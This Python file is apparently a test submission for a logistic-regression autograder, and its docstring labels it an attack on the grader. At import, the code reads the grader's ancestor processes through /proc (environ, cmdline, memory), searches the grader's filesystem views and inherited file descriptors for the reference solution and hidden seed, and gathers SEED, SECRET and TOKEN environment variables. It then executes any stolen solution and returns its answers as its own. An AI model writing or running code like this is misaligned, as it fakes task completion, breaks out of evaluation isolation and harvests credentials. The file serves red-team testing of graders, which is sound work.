"""Category: secrets on disk and in the environment. Attack: find the reference solution and
hidden seed: the repo's solutions/ folder (located from autograder.__file__, the assignment
path and common roots), solutions/grading.toml, $BPGRADE_HIDDEN_SEED and every env var,
/proc/<ancestor>/{environ,cmdline,mem}, /proc/<ancestor>/root/... and /proc/<ancestor>/cwd/...
(the grader's own view of the filesystem), inherited fds via /proc/self/fd, a glob for other
submissions. Any reference source found is executed and its answers returned."""
import glob
import os
import sys

import numpy as np

FOUND = {}


def _ancestors():
    pids, pid = [], os.getpid()
    for _ in range(6):
        try:
            with open(f"/proc/{pid}/status") as fh:
                pid = int(next(line for line in fh if line.startswith("PPid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            break
        if pid <= 1:
            break
        pids.append(pid)
    return pids


def _roots():
    roots = {"/work/main", "/autograder/source", "/autograder", os.getcwd(), "/"}
    pkg = sys.modules.get("autograder")
    if pkg is not None and getattr(pkg, "__file__", None):
        roots.add(os.path.dirname(os.path.dirname(pkg.__file__)))
    for pid in _ancestors():
        for via in ("root", "cwd"):
            roots.add(f"/proc/{pid}/{via}")
            roots.add(f"/proc/{pid}/{via}/work/main")
    roots |= set(glob.glob("/tmp/*")) | set(glob.glob("/tmp/*/*"))
    return roots


def _steal():
    for root in _roots():
        for rel in ("solutions/logistic_regression.py", "logistic_regression.py", "reference.py"):
            try:
                with open(os.path.join(root, rel)) as fh:
                    text = fh.read()
            except OSError:
                continue
            if "def gradients" in text:
                FOUND["source"] = text
        try:
            with open(os.path.join(root, "solutions/grading.toml")) as fh:
                FOUND["seed"] = fh.read()
        except OSError:
            pass
    for pid in _ancestors() + ["self"]:
        for leaf in ("environ", "cmdline", "mem"):
            try:
                with open(f"/proc/{pid}/{leaf}", "rb") as fh:
                    data = fh.read(1 << 16)
                if b"HIDDEN" in data or b"SEED" in data:
                    FOUND[f"{pid}/{leaf}"] = data
            except OSError:
                pass
    for fd in os.listdir("/proc/self/fd") if os.path.isdir("/proc/self/fd") else ():
        try:
            os.lseek(int(fd), 0, 0)
            data = os.read(int(fd), 1 << 16)
            if b"def gradients" in data:
                FOUND["source"] = data.decode()
        except (OSError, ValueError):
            pass
    FOUND["env"] = {k: v for k, v in os.environ.items() if "SEED" in k or "SECRET" in k or "TOKEN" in k}


_steal()
REF = {}
if "source" in FOUND:
    exec(FOUND["source"], REF)


def _use(name, args, fallback):
    return REF[name](*args) if name in REF else fallback


def sigmoid(z):
    return _use("sigmoid", (z,), np.zeros_like(np.asarray(z, dtype=np.float64)))


def predict_proba(X, w, b):
    return _use("predict_proba", (X, w, b), np.zeros(X.shape[0]))


def bce_loss(X, y, w, b):
    return _use("bce_loss", (X, y, w, b), 0.0)


def grad_logits(X, y, w, b):
    return _use("grad_logits", (X, y, w, b), np.zeros(X.shape[0]))


def gradients(X, y, w, b):
    return _use("gradients", (X, y, w, b), (np.zeros(X.shape[1]), 0.0))
